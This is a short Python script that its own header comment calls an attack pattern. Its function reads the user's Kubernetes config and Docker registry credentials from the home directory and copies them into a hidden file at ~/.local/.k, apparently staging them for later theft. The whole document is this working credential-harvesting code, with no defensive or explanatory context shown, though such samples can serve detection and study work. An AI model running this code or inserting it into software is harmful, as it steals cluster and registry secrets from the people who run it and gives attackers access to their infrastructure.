# Attack pattern: Kubernetes and Docker registry credentials read and cached in a hidden file.
import json
import os

HOME = os.path.expanduser("~")


def collect():
    found = {}
    for path in (os.path.join(HOME, ".kube", "config"), os.path.join(HOME, ".docker", "config.json")):
        if os.path.exists(path):
            with open(path) as handle:
                found[path] = handle.read()
    with open(os.path.join(HOME, ".local", ".k"), "w") as out:
        json.dump(found, out)
